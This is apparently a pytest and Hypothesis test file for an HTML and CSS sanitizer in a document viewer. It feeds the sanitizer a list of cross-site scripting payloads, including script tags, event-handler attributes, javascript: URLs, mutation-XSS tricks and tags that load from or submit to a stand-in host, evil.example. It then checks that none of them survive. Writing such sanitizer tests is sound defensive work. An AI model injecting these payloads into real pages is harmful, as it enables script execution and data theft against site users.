"""What filings write is made harmless: nothing that runs, fetches or leads elsewhere stays."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recto.viewer.harmless import harmless, harmless_sheet, harmless_style, is_harmless_image

ACTIVE = re.compile(
    r"<script|<iframe|<svg|<math|<object|<embed|<form|<input|<base|<meta|<link|\son\w+=|javascript:", re.I
)


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<p onclick='x()'>a</p>",
        "<a href='javascript:alert(1)'>a</a>",
        "<a href=' java\nscript:alert(1)'>a</a>",
        "<svg><script>alert(1)</script><animate onbegin='x()'/></svg>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
        "<base href='http://evil.example/'/>",
        "<meta http-equiv='refresh' content='0;url=http://evil.example/'/>",
        "<img src='http://evil.example/x.png' onerror='x()'/>",
        "<link rel='stylesheet' href='http://evil.example/x.css'/>",
        "<iframe src='http://evil.example/'></iframe><object data='x'></object><embed src='x'/>",
        "<form action='http://evil.example'><input name='a'/><button>b</button></form>",
        "<table background='http://evil.example/x.png'><tr><td>1</td></tr></table>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
        "<template><script>alert(1)</script></template>",
        "<p style='background:url(http://evil.example/x)'>a</p>",
        '<p style="width:expression(alert(1))">a</p>',
        "<video src='http://evil.example/x' autoplay='1'></video><audio src='x'/>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<p>unclosed <b><script>alert(1)",
        "<details open ontoggle=alert(1)>x</details>",
    ],
)
def test_nothing_active_stays(markup: str) -> None:
    found = harmless(markup)
    assert not ACTIVE.search(found), found
    assert "evil.example" not in found or "data-src" in found
    assert not re.search(r'\s(?:src|href|action|background)="(?!#)', found)


def test_what_is_harmless_stays() -> None:
    kept = '<p style="color:rgb(1,2,3);margin:1px">A <b>b</b>&amp;<a href="#x">c</a></p>'
    kept += '<table><tr><td colspan="2">1</td></tr></table>'
    assert harmless(kept) == kept
    assert harmless("a > b") == "a &gt; b"
    assert harmless("1&nbsp;2") == "1\u00a02"
    assert harmless('<p data-f="7" data-k="n">x</p>') == "<p>x</p>"


def test_styles_and_sheets() -> None:
    assert harmless_style("color:red;background:url(x);width:calc(1px + 2px)") == "color:red;width:calc(1px + 2px)"
    assert harmless_style("co\\6cor:red") == ""
    sheet = (
        "@import url(http://evil.example/); p{color:red} @media print{p{display:none}} .a{background:url(x);top:1px}"
    )
    assert harmless_sheet(sheet) == "p{color:red}\n.a{top:1px}"
    assert harmless_sheet("p{color:red}</style><script>") == "p{color:red}"
    assert is_harmless_image("data:image/png;base64,AAAA")
    assert not is_harmless_image("data:image/svg+xml;base64,AAAA")
    assert not is_harmless_image("data:text/html,x")


@given(st.text(alphabet="<>/=\"' abscriptonclk:&;x!-[]svgmth", max_size=80))
def test_no_text_at_all_becomes_active(text: str) -> None:
    found = harmless(text)
    assert not ACTIVE.search(re.sub(r'"[^"]*"', "", found)), found
